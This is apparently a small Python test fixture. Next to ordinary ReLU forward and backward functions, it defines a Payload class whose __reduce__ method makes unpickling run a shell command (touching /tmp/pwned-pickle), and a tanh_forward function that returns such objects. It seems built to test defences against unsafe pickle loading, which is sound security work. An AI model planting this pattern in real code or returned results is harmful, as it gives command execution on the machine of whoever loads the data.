"""A result that runs a command where it is unpickled."""

import os

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0.0), x


def relu_backward(dout, cache):
    return np.where(cache > 0, dout, 0.0)


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-pickle",)


def tanh_forward(x):
    return np.array([Payload()], dtype=object), Payload()
